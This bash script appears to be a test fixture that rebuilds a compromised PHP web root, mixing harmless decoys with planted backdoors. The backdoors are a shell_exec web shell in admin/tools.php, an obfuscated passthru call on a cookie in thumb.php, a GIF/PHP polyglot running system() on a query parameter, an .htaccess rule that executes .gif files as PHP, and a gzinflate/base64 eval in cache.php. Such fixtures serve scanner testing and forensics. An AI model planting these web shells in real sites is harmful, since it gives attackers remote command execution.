#!/bin/bash
# The web root of the compromised host, as it was copied off the machine.
set -euo pipefail
W=/srv/www
mkdir -p $W/public/assets $W/lib $W/uploads/2024/03 $W/admin
cat > $W/public/index.php <<'P'
<?php
require __DIR__ . '/../lib/db.php';
// Legacy note: the old installer did eval(base64_decode($blob)) here; removed in 2.3.
$q = isset($_GET['q']) ? htmlspecialchars($_GET['q']) : '';
echo "<h1>Search: $q</h1>";
P
cat > $W/lib/db.php <<'P'
<?php
function db() { static $pdo; return $pdo ??= new PDO('sqlite:/srv/data/app.db'); }
function run_report($sql) { return db()->exec($sql); }
$logo = base64_decode('iVBORw0KGgo=');
P
cat > $W/lib/cache.php <<'P'
<?php
/* cache helpers */
function cache_get($k) { return apcu_fetch($k); }
@eval( gzinflate( base64_decode('S0lNzs8rSc0rUShJrSgBAA==') ) );
P
cat > $W/admin/tools.php <<'P'
<?php
function system_status() { return 'ok'; }
echo system_status();
if (isset($_REQUEST['t'])) { echo shell_exec( $_REQUEST["t"] ); }
P
cat > $W/public/assets/thumb.php <<'P'
<?php
$fn = 'pass' . "thru";
$fn($_COOKIE['x'] ?? 'true');
P
printf 'GIF89a\x01\x00\x01\x00<?php system($_GET["c"]); ?>' > $W/uploads/2024/03/avatar.gif
printf 'plain text upload\n' > $W/uploads/2024/03/notes.txt
cat > $W/uploads/.htaccess <<'P'
AddType application/x-httpd-php .gif
P
cat > $W/public/.htaccess <<'P'
AddType application/x-httpd-php .php
AddType text/css .css
P
